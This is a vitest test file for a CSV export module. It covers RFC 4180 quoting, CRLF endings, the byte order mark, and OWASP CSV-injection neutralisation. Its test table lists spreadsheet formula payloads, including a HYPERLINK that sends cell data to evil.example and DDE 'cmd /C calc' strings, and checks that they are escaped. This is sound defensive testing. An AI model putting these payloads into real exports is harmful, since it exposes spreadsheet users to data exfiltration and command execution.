import { describe, expect, it } from "vitest";
import { CSV_BYTE_ORDER_MARK, csvField, csvRecord } from "./csv.ts";
import { parseCsv } from "./test-support/parse-csv.ts";

describe("CSV fields (RFC 4180)", () => {
  it("leaves a plain field as it is, whatever its script", () => {
    expect(csvField("Ken Myer")).toBe("Ken Myer");
    expect(csvField("")).toBe("");
    expect(csvField("sip:kenmyer@litwareinc.com")).toBe("sip:kenmyer@litwareinc.com");
    expect(csvField("Zoë Ångström")).toBe("Zoë Ångström");
    expect(csvField("王秀英")).toBe("王秀英");
  });

  it("quotes a field holding a quote, a comma, a semicolon, a CR or an LF, and doubles its quotes", () => {
    expect(csvField("Hagens, Erin")).toBe('"Hagens, Erin"');
    expect(csvField('Ken "The Auditor" Myer')).toBe('"Ken ""The Auditor"" Myer"');
    expect(csvField('"')).toBe('""""');
    expect(csvField("two\nlines")).toBe('"two\nlines"');
    expect(csvField("two\r\nlines")).toBe('"two\r\nlines"');
    expect(csvField("a\rb")).toBe('"a\rb"');
    // Excel takes ";" as the separator in locales whose decimal mark is a comma.
    expect(csvField("tel:+14255551102;ext=1102")).toBe('"tel:+14255551102;ext=1102"');
  });

  it("ends each record with CRLF", () => {
    expect(csvRecord(["a", "b, c", ""])).toBe('a,"b, c",\r\n');
    expect(csvRecord([""])).toBe("\r\n");
  });

  it("has the UTF-8 byte order mark for a download to start with", () => {
    expect(CSV_BYTE_ORDER_MARK).toBe("\uFEFF");
    expect([...new TextEncoder().encode(CSV_BYTE_ORDER_MARK)]).toEqual([0xef, 0xbb, 0xbf]);
  });
});

/**
 * OWASP "CSV Injection": a cell starting with =, +, -, @, tab or CR is a formula to Excel, LibreOffice
 * and Sheets, and so is one starting with LF (a quoted cell keeps its line breaks); a ";" or "," lets a
 * value open a new cell in a locale that splits on it. Each value with the exact field written for it.
 */
describe("formula neutralisation (OWASP CSV injection)", () => {
  it.each([
    ["=1+1", "'=1+1"],
    ["+1", "'+1"],
    ["-1", "'-1"],
    ["@SUM(1)", "'@SUM(1)"],
    ["+14255551102", "'+14255551102"],
    ["-2+3", "'-2+3"],
    ["@SUM(A1:A9)", "'@SUM(A1:A9)"],
    ["\t=1", "'\t=1"],
    ["\r=1", '"\'\r=1"'],
    ["\n=1", '"\'\n=1"'],
    ["\r\n=1+1", '"\'\r\n=1+1"'],
    [
      '=HYPERLINK("http://evil.example/?"&A1,"Click")',
      '"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"',
    ],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ["\r=cmd|' /C calc'!A0", "\"'\r=cmd|' /C calc'!A0\""],
    ["@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"],
    ["=1+1;x", '"\'=1+1;x"'],
    ["x;=1+1", '"x;=1+1"'],
    [";=1+1", '";=1+1"'],
    ["x,=1+1", '"x,=1+1"'],
    ['"=1"', '"""=1"""'],
    ["a\n=1+1", '"a\n=1+1"'],
    ["Zoë", "Zoë"],
    ["王秀英", "王秀英"],
  ])("writes %j as %j", (value, expected) => {
    expect(csvField(value)).toBe(expected);
  });

  it("leaves those characters alone anywhere but first", () => {
    expect(csvField("Ken=Myer")).toBe("Ken=Myer");
    expect(csvField("Research and Development - Lab")).toBe("Research and Development - Lab");
    expect(csvField("kenmyer@litwareinc.com")).toBe("kenmyer@litwareinc.com");
  });
});

describe("what a reader gets back", () => {
  it("reads every record as it was written, formula cells with their leading '", () => {
    const records = [
      ["Display name", "Title"],
      ["Hagens, Erin", 'Top "10%"'],
      ["two\r\nlines", ""],
      ["=1+2", "ordinary"],
      ["\n=1", "x;=1+1"],
      ["Zoë", "王秀英"],
    ];
    const text = records.map(csvRecord).join("");
    expect(parseCsv(text)).toEqual([
      ["Display name", "Title"],
      ["Hagens, Erin", 'Top "10%"'],
      ["two\r\nlines", ""],
      ["'=1+2", "ordinary"],
      ["'\n=1", "x;=1+1"],
      ["Zoë", "王秀英"],
    ]);
  });

  it("skips the byte order mark a download starts with, and only there", () => {
    const inside = `${CSV_BYTE_ORDER_MARK}Zoë`;
    const text = `${CSV_BYTE_ORDER_MARK}${csvRecord(["Display name"])}${csvRecord([inside])}`;
    expect(parseCsv(text)).toEqual([["Display name"], ["\uFEFFZoë"]]);
  });
});
